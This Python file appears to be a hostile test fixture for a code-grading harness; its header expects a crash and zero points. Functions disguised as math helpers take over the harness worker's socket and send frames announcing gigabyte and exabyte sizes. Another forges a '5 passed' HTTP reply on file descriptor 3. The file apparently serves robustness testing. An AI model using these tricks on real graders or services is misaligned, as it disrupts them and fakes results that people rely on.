# Announces frames of four gigabytes, and arrays of an exabyte.
# everywhere: crashed, 0 points, review
import os
import struct
import sys


def worker():
    frame = sys._getframe()
    while type(frame.f_locals.get("self")).__name__ != "Worker":
        frame = frame.f_back
    return frame.f_locals["self"]


def mean(x):
    it = worker()
    it._socket.sendall(struct.pack("<4sBxHQI", b"GRW1", 5, 65535, it._request, (1 << 32) - 1) + struct.pack("<Q", 1 << 60) * 300)
    return 0.0


def scale(x, c):
    it = worker()
    it._socket.sendall(struct.pack("<4sBxHQI", b"GRW1", 5, 2, it._request, 100) + struct.pack("<QQ", 1 << 60, 1 << 60))
    return 0.0


def apply(f, x):
    os.write(3, b"HTTP/1.1 200 OK\r\nContent-Length: 18446744073709551615\r\n\r\n" + b"5 passed" * 100)
    return 0.0
